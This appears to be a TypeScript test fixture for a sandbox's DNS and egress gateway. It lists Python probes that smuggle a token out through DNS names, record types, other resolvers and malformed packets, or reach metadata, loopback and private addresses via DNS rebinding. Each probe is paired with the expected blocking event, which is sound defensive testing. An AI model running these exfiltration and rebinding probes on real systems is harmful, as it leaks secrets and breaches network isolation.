/** Names as a channel, other resolvers, and names whose addresses lead inside. */
import { python, type Way } from './way.ts'

const TXT = 16
const NULL = 10
const PTR = 12
const refused = (host = '{T}.denied.example') => ({ event: { kind: 'dns', host } })
const toResolver = (port: number, address = '11.0.0.54') => ({ event: { address, port } })
const inside = /^(10\.|169\.|127\.|fd|64:|2002:|11\.0\.9\.|loopback|host)/
/** A port of its own for each name, so that its event is not another's. */
const leadsInside = (host: string) => ({
  at: inside,
  event: { host, reason: ['private_address', 'connect_failed'] },
})

/** The ways whose names lead inside. */
export const inwardNames = () => dns.filter(({ at }) => at === inside)

export const dns: readonly Way[] = [
  python('dns-udp', 'another resolver over UDP', `udp('11.0.0.54', 53, question(T + '.allowed.example'))`, {
    event: { kind: 'udp', address: '11.0.0.54', port: 53, reason: 'resolver_refused' },
  }),
  python(
    'dns-tcp',
    'another resolver over TCP',
    `ask_tcp(question(T + '.allowed.example'), server='11.0.0.54')`,
    {
      ...toResolver(53),
      opens: true,
    },
  ),
  python(
    'dns-host-resolver',
    'the host’s resolver',
    `udp('11.0.0.53', 53, question(T + '.denied.example'))`,
    {
      event: { address: '11.0.0.53', port: 53 },
    },
  ),
  python('dns-over-tls', 'another resolver over TLS', `tls('11.0.0.54', 853, 'doh.example')`, {
    ...toResolver(853),
    opens: true,
  }),
  python(
    'dns-over-https',
    'another resolver over HTTPS',
    `tls('11.0.0.54', 443, 'doh.example', 'POST /dns-query HTTP/1.1\\r\\nHost: doh.example\\r\\nContent-Length: %d\\r\\n\\r\\n%s' % (len(T), T))`,
    { event: { host: 'doh.example', port: 443 }, opens: true },
  ),
  python('exfiltrate-a', 'data in a denied name', `ask(question(T + '.denied.example'))`, refused()),
  python(
    'exfiltrate-long',
    'data in long labels',
    `ask(question(('x' * 60 + '.') * 2 + T + '.denied.example'))`,
    {
      event: { kind: 'dns', reason: 'no_rule' },
    },
  ),
  python(
    'exfiltrate-txt',
    'a TXT record of a denied name',
    `ask(question(T + '.denied.example', ${TXT}))`,
    refused(),
  ),
  python(
    'exfiltrate-null',
    'a NULL record of a denied name',
    `ask(question(T + '.denied.example', ${NULL}))`,
    refused(),
  ),
  python(
    'allowed-txt',
    'a TXT record below an allowed name',
    `ask(question(T + '.wild.example', ${TXT}))`,
    refused('{T}.wild.example'),
  ),
  python(
    'allowed-null',
    'a NULL record below an allowed name',
    `ask(question(T + '.wild.example', ${NULL}))`,
    refused('{T}.wild.example'),
  ),
  python(
    'dns-tcp-gateway',
    'a denied name over TCP',
    `ask_tcp(question('allowed.example'), question(T + '.denied.example'))`,
    refused(),
  ),
  python(
    'two-questions',
    'a denied question after an allowed one',
    `ask(question(['allowed.example', T + '.denied.example']))`,
    {
      event: { kind: 'dns' },
    },
  ),
  python(
    'edns-option',
    'data in an option of an allowed question',
    `ask(question('allowed.example', additional=1, tail=b'\\0' + struct.pack('!HHIH', 41, 1232, 0, 4 + len(T)) + struct.pack('!HH', 65001, len(T)) + TOKEN))`,
    { event: { unseen: 'the gateway asks its own question; the sandbox’s bytes do not leave' } },
  ),
  python('trailing-bytes', 'data behind an allowed question', `ask(question('allowed.example') + TOKEN)`, {
    event: { unseen: 'the gateway asks its own question; the sandbox’s bytes do not leave' },
  }),
  python(
    'update',
    'a dynamic update of an allowed zone',
    `ask(question('wild.example', 6, code=0x2800) + name_bytes(T + '.wild.example'))`,
    { event: { kind: 'dns' } },
  ),
  python('chaos', 'a question of another class', `ask(question(T + '.wild.example', ${TXT}, klass=3))`, {
    event: { kind: 'dns' },
  }),
  python(
    'reverse',
    'data in a reverse lookup',
    `ask(question(T + '.2.0.11.in-addr.arpa', ${PTR}))`,
    refused('{T}.2.0.11.in-addr.arpa'),
  ),
  python('mdns', 'multicast DNS', `udp('224.0.0.251', 5353, question(T + '.local'))`, {
    event: { address: '224.0.0.251', port: 5353 },
  }),
  python(
    'metadata-name',
    'a name of the metadata address',
    `tcp('metadata.wild.example', 80, get(host='metadata.wild.example'))`,
    leadsInside('metadata.wild.example'),
  ),
  python(
    'private-name',
    'a name of a private address',
    `tcp('private.wild.example', 80, get(host='private.wild.example'))`,
    leadsInside('private.wild.example'),
  ),
  python(
    'lan-name',
    'a name of the host’s address',
    `tcp('lan.wild.example', 9902, get(host='lan.wild.example'))`,
    leadsInside('lan.wild.example'),
  ),
  python(
    'public-host-name',
    'a name of the host’s public address',
    `tcp('host.wild.example', 9902, get(host='host.wild.example'))`,
    leadsInside('host.wild.example'),
  ),
  python(
    'loopback-name',
    'a name of the loopback address',
    `tcp('loopback.wild.example', 9901, get(host='loopback.wild.example'))`,
    leadsInside('loopback.wild.example'),
  ),
  python(
    'mapped-name',
    'a name of an IPv4-mapped address',
    `tcp('mapped.wild.example', 80, get(host='mapped.wild.example'))`,
    leadsInside('mapped.wild.example'),
  ),
  python(
    'unique-local-name',
    'a name of a private IPv6 address',
    `tcp('unique-local.wild.example', 80, get(host='unique-local.wild.example'))`,
    leadsInside('unique-local.wild.example'),
  ),
  python(
    'alias-inside',
    'an alias of a private name',
    `tcp('cname-inside.wild.example', 80, get(host='cname-inside.wild.example'))`,
    leadsInside('cname-inside.wild.example'),
  ),
  python(
    'nat64-name',
    'a name of the metadata address behind NAT64',
    `tcp('nat64.wild.example', 80, get(host='nat64.wild.example'))`,
    leadsInside('nat64.wild.example'),
  ),
  python(
    '6to4-name',
    'a name of the metadata address in a 6to4 address',
    `tcp('six-to-four.wild.example', 80, get(host='six-to-four.wild.example'))`,
    leadsInside('six-to-four.wild.example'),
  ),
  python(
    'host-nat64-name',
    'a name of the host’s public address behind NAT64',
    `tcp('host-nat64.wild.example', 80, get(host='host-nat64.wild.example'))`,
    leadsInside('host-nat64.wild.example'),
  ),
  python(
    'zero-name',
    'a name of the address 0.0.0.0',
    `tcp('zero.wild.example', 9901, get(host='zero.wild.example'))`,
    leadsInside('zero.wild.example'),
  ),
  python(
    'alias-chain',
    'a private name at the end of many aliases',
    `tcp('inwards-7.wild.example', 80, get(host='inwards-7.wild.example'))`,
    leadsInside('inwards-7.wild.example'),
  ),
  python(
    'https-record',
    'the record HTTPS, which may have addresses',
    `ask(question(T + '.wild.example', 65))`,
    { event: { unseen: 'answered as empty, and not asked outside' } },
  ),
  python(
    'https-record-denied',
    'the record HTTPS of a denied name',
    `ask(question(T + '.denied.example', 65))`,
    refused(),
  ),
  python('any-record', 'all records below an allowed name', `ask(question(T + '.wild.example', 255))`, {
    event: { kind: 'dns', host: '{T}.wild.example', reason: 'protocol' },
  }),
  python(
    'mail-and-services',
    'records of mail and services below an allowed name',
    `for kind in (15, 33, 35, 37, 44, 257): ask(question(T + '.wild.example', kind))`,
    { event: { kind: 'dns', host: '{T}.wild.example', reason: 'protocol' } },
  ),
  python(
    'zone-transfer',
    'a transfer of the zone of an allowed name',
    `ask_tcp(question(T + '.wild.example', 252))`,
    { event: { kind: 'dns', host: '{T}.wild.example', reason: 'protocol' } },
  ),
  python(
    'dot-in-label',
    'a label with dots, which reads as a name below an allowed one',
    `label = (T + '.wild.example').encode()
ask(question('denied.example').replace(b'\\x06denied', bytes([len(label)]) + label + b'\\x06denied'))`,
    { event: { kind: 'dns', reason: 'no_rule', host: '{T}\\.wild\\.example.denied.example.' } },
  ),
  python(
    'compressed-question',
    'a question whose name points behind itself',
    `ask(question('x').replace(b'\\x01x\\0', bytes([len(T)]) + TOKEN + b'\\xc0\\x21') + b'\\x06denied\\x07example\\0')`,
    { event: { unseen: 'malformed, or refused under the name that it spells' } },
  ),
  python(
    'answer-as-question',
    'an answer instead of a question',
    `ask(question(T + '.wild.example', code=0x8180))`,
    { event: { unseen: 'the gateway ignores answers' } },
  ),
  python(
    'mixed-name',
    'each address of a name with public and private ones',
    `for address in ('11.0.1.2', '169.254.169.254', '10.20.0.5'):
    try: tcp(address, 8080, get(host='mixed.wild.example'))
    except OSError as error: print(error)`,
    { at: inside, event: { address: '169.254.169.254', port: 8080, reason: 'private_address' } },
  ),
  python(
    'rebinding',
    'a name whose address changes between the answer and the connection',
    `for _ in range(11):
    try: tcp('rebind.wild.example', 80, get(host='rebind.wild.example'))
    except OSError as error: print(error)`,
    { at: inside, event: { host: 'rebind.wild.example', reason: ['private_address', 'address_mismatch'] } },
  ),
  python(
    'rebinding-kept',
    'a private address under a name that has resolved to it',
    `for _ in range(5):
    try: socket.getaddrinfo('rebind.wild.example', 80)
    except OSError: pass
tcp('10.20.0.5', 8080, get(host='rebind.wild.example'))`,
    { at: inside, event: { address: '10.20.0.5', port: 8080, reason: 'private_address' } },
  ),
]
